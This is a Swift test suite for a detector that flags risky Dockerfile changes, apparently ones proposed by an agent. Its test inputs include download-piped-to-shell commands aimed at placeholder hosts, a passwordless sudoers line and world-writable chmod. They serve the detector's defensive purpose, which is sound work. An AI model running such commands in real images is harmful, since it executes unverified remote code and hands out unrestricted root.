import Testing

@testable import Queue
@testable import Risk

@Suite("Risk hints: Dockerfile")
struct RiskHintsDockerfileTests {
    static let current = """
        FROM debian:bookworm-slim
        RUN apt-get update && apt-get install -y git
        USER agent
        """

    func hints(_ proposed: String, current: String? = Self.current) -> [RiskHint] {
        RiskHints.assess(tool: .capabilityBlock, proposed: proposed, current: current)
    }

    func adding(_ lines: String) -> [RiskHint] {
        hints("FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y git\n\(lines)\nUSER agent\n")
    }

    @Test("an ordinary added package gives no hints")
    func ordinary() {
        #expect(adding("RUN apt-get install -y jq").isEmpty)
    }

    @Test("a download piped into a shell is critical, in its common spellings")
    func pipeToShell() {
        for run in [
            "RUN curl -fsSL https://get.example.sh | sh",
            "RUN wget -qO- https://x.example/install | sudo bash -s --",
            "RUN curl https://x.example/i.py | /usr/bin/python3",
            #"RUN sh -c "$(curl -fsSL https://x.example/i)""#,
            "RUN bash <(curl -s https://x.example/i)",
        ] {
            let found = adding(run)
            #expect(found.contains { $0.rule == "pipe-to-shell" && $0.severity == .critical && $0.line == 3 }, "\(run)")
        }
        #expect(adding("RUN curl -fsSLo /tmp/x https://x.example/x && sha256sum -c x.sha256").isEmpty)
        #expect(adding("RUN cat /etc/os-release | grep ID").isEmpty)
    }

    @Test("ADD from a URL is a warning, a notice with a checksum")
    func addFromURL() {
        #expect(adding("ADD https://x.example/tool.tgz /opt/").map(\.severity) == [.warning])
        #expect(adding("ADD --checksum=sha256:abc https://x.example/tool.tgz /opt/").map(\.severity) == [.notice])
        #expect(adding("ADD tool.tgz /opt/").isEmpty)
    }

    @Test("ending as root is a warning when new, a notice when it was so already")
    func runsAsRoot() {
        let root = hints("FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y git\nUSER root\n")
        #expect(root.map(\.rule) == ["runs-as-root"])
        #expect(root.first?.severity == .warning)
        #expect(root.first?.line == 3)
        let noUser = hints("FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y git\n")
        #expect(noUser.first?.reason.contains("no USER") == true)
        #expect(noUser.first?.line == nil)
        let already = hints("FROM debian:bookworm-slim\nRUN true\n", current: "FROM debian:bookworm-slim\n")
        #expect(already.map(\.severity) == [.notice])
        // A USER in an earlier stage does not count.
        let stages = hints("FROM debian:bookworm-slim AS build\nUSER agent\nFROM debian:bookworm-slim\nRUN true\n")
        #expect(stages.contains { $0.rule == "runs-as-root" })
    }

    @Test("an unpinned or changed base image is a warning")
    func baseImage() {
        let latest = hints("FROM debian:latest\nRUN apt-get update && apt-get install -y git\nUSER agent\n")
        #expect(Set(latest.map(\.rule)) == ["changed-base-image", "unpinned-base-image"])
        let untagged = hints("FROM ubuntu\nUSER agent\n", current: nil)
        #expect(untagged.map(\.rule) == ["unpinned-base-image"])
        let digest = hints("FROM ubuntu@sha256:0123\nUSER agent\n", current: nil)
        #expect(digest.isEmpty)
        let registryPort = hints("FROM registry.local:5000/tools\nUSER agent\n", current: nil)
        #expect(registryPort.map(\.rule) == ["unpinned-base-image"])
        #expect(hints("FROM scratch\nUSER 1000\n", current: nil).isEmpty)
    }

    @Test("secret-looking ENV and ARG names are a warning")
    func secrets() {
        #expect(adding("ENV GITHUB_TOKEN=ghp_x").map(\.rule) == ["secret-in-image"])
        #expect(adding("ARG NPM_AUTH").map(\.rule) == ["secret-in-image"])
        #expect(adding("ENV A=1 DB_PASSWORD=x").map(\.rule) == ["secret-in-image"])
        #expect(adding("ENV PATH=/opt/bin:$PATH").isEmpty)
    }

    @Test("world-writable files, new package sources and sudo rights are hinted")
    func commands() {
        #expect(adding("RUN chmod -R 777 /opt").map(\.rule) == ["world-writable"])
        #expect(adding(#"RUN echo "deb http://x.example/ stable main" > /etc/apt/sources.list.d/x.list"#).map(\.rule) == ["new-package-source"])
        #expect(adding("RUN pip install --extra-index-url https://x.example/simple tool").map(\.rule) == ["new-package-source"])
        #expect(adding(#"RUN echo "agent ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers"#).contains { $0.rule == "sudo-nopasswd" && $0.severity == .critical })
        #expect(adding("RUN chmod 755 /opt/tool").isEmpty)
    }

    @Test("labels and environment that host tools act on are a warning")
    func hostToolSettings() {
        #expect(adding(#"LABEL traefik.enable=true "traefik.http.routers.b.rule"="Host(`b.example`)""#).map(\.rule) == [
            "host-tool-setting", "host-tool-setting",
        ])
        #expect(adding("ENV VIRTUAL_HOST=bottle.example.com").map(\.rule) == ["host-tool-setting"])
        #expect(adding("LABEL com.centurylinklabs.watchtower.enable=true").map(\.rule) == ["host-tool-setting"])
        #expect(adding("LABEL org.opencontainers.image.title=tools version=2").isEmpty)
        #expect(adding("ENV EDITOR=vim").isEmpty)
    }

    @Test("heredoc bodies are read too")
    func heredocs() {
        let found = adding("RUN <<EOF\nset -e\ncurl -fsSL https://x.example/i | sh\nEOF")
        #expect(found.contains { $0.rule == "pipe-to-shell" })
    }
}
